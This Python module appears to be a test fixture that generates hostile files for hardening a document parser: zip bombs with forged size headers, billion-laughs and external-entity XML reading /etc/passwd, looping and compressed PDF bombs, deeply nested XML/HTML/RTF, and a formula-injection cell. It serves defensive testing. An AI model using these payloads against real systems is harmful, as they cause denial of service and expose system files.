"""Files made to hurt the reader. Each maker gives bytes; the names tell the attack."""

import io
import zipfile
import zlib
from collections.abc import Callable

import docx
from openpyxl import Workbook

WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "ха">'
    + "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
PASSWD = '<!DOCTYPE a [<!ENTITY i SYSTEM "file:///etc/passwd">]>'


def zipped(**parts: bytes | str) -> bytes:
    """Parts by path, «/» as «__», the last dot as «_dot_»."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return out.getvalue()


def word(body: str, head: str = "") -> bytes:
    return zipped(word__document_dot_xml=f"{head}<w:document {WORD}><w:body>{body}</w:body></w:document>")


def bomb_of_zeros() -> bytes:
    return zipped(word__document_dot_xml=b"<w:document>" + b" " * 190_000_000)


def bomb_of_text() -> bytes:
    return word("<w:p><w:r><w:t>а</w:t></w:r></w:p>" * 700_000)


def bomb_that_lies() -> bytes:
    """The directory says 100 bytes, the stream holds 300 MB."""
    data = bytearray(zipped(word__document_dot_xml=b" " * 300_000_000))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = data.rfind(mark) + at
        data[place : place + 4] = (100).to_bytes(4, "little")
    return bytes(data)


def many_entries() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(60_000):
            archive.writestr(str(number), b"")
    return out.getvalue()


def far_cell() -> bytes:
    book = Workbook()
    book.active["XFD1048576"] = "далеко"
    book.active["A1"] = "ФИО"
    book.active["A2"] = "Берёзкина Полина Павловна"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def formulas() -> bytes:
    book = Workbook()
    book.active.append(["ФИО", "Должность"])
    book.active.append(["Берёзкина Полина Павловна", '=HYPERLINK("http://example.org";"директор")'])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def sheet(head: str, cell: str) -> bytes:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    return zipped(
        xl__workbook_dot_xml=f'{head}<workbook {SHEET} xmlns:r="{office}">'
        '<sheets><sheet name="1" sheetId="1" r:id="r1"/></sheets></workbook>',
        xl___rels__workbook_dot_xml_dot_rels=f'<Relationships xmlns="{package}">'
        '<Relationship Id="r1" Target="worksheets/sheet1.xml"/></Relationships>',
        xl__worksheets__sheet1_dot_xml=f"<worksheet {SHEET}><sheetData>{cell}</sheetData></worksheet>",
    )


def pdf_of(*objects: bytes, root: int = 1) -> bytes:
    out = bytearray(b"%PDF-1.4\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, root, start))


def pdf_whose_pages_loop() -> bytes:
    return pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R 2 0 R]/Count 3>>")


def pdf_whose_tables_loop() -> bytes:
    data = pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>")
    start = data.rindex(b"startxref")
    return data.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % (start - 200)) + b""


def pdf_whose_form_draws_itself() -> bytes:
    head = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>/Length 20>>"
    form = head + b"stream\n/X Do /X Do /X Do   \nendstream"
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources<</XObject<</X 4 0 R>>>>/Contents 5 0 R>>",
        form,
        b"<</Length 5>>stream\n/X Do\nendstream",
    )


def pdf_bomb() -> bytes:
    packed = (
        zlib.compress(zlib.compress(b"0 0 m " * 200_000_000, 9), 9) if False else zlib.compress(bytes(900_000_000), 9)
    )
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>",
        b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed),
    )


def macros() -> bytes:
    out = io.BytesIO()
    made = docx.Document()
    made.add_paragraph("ПРОТОКОЛ № 1")
    made.save(out)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(500))
    return out.getvalue()


HOSTILE: dict[str, Callable[[], bytes]] = {
    "bomb of zeros": bomb_of_zeros,
    "bomb of text": bomb_of_text,
    "bomb that lies": bomb_that_lies,
    "many entries": many_entries,
    "far cell": far_cell,
    "external entity": lambda: word("<w:p><w:r><w:t>&i;</w:t></w:r></w:p>", PASSWD),
    "billion laughs": lambda: word("<w:p><w:r><w:t>&i;</w:t></w:r></w:p>", LAUGHS),
    "laughs in UTF-16": lambda: zipped(
        word__document_dot_xml=f'<?xml version="1.0" encoding="UTF-16"?>{LAUGHS}<a>&i;</a>'.encode("utf-16")
    ),
    "laughs in a sheet": lambda: sheet(LAUGHS, "<row><c t='inlineStr'><is><t>а</t></is></c></row>"),
    "laughs in ODT": lambda: zipped(content_dot_xml=f"{LAUGHS}<a>&i;</a>"),
    "deep tables": lambda: word("<w:tbl><w:tr><w:tc>" * 5000 + "</w:tc></w:tr></w:tbl>" * 5000),
    "deep XML": lambda: word("<w:ins>" * 100_000 + "</w:ins>" * 100_000),
    "cut docx": lambda: macros()[:-300],
    "pages that loop": pdf_whose_pages_loop,
    "tables that loop": pdf_whose_tables_loop,
    "a form that draws itself": pdf_whose_form_draws_itself,
    "pdf bomb": pdf_bomb,
    "pdf of nothing": lambda: b"%PDF-1.7\n",
    "deep RTF": lambda: b"{\\rtf1" + b"{\\b" * 1_000_000,
    "long RTF": lambda: b"{\\rtf1 " + b"\\cell\\row" * 300_000,
    "bin in RTF": lambda: b"{\\rtf1 \\bin2147483647 abc}",
    "deep HTML": lambda: b"<html><body>" + b"<div><b>" * 200_000 + "текст".encode(),
    "wide HTML": lambda: b"<html><table>" + b"<tr><td colspan=9999 rowspan=9999>a" * 5000,
    "stars": lambda: b"**a " * 500_000,
    "tabs": lambda: b"\t" * 5_000_000 + b"a",
    "brackets": lambda: ("«(" * 500_000).encode(),
    "one long word": lambda: ("щ" * 2_900_000).encode(),
    "huge picture": lambda: b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\x0f\xff\xff\0\x0f\xff\xff\x08\0\0\0\0",
    "program": lambda: b"MZ" + bytes(3000),
    "old office": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3000),
    "encrypted office": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
}
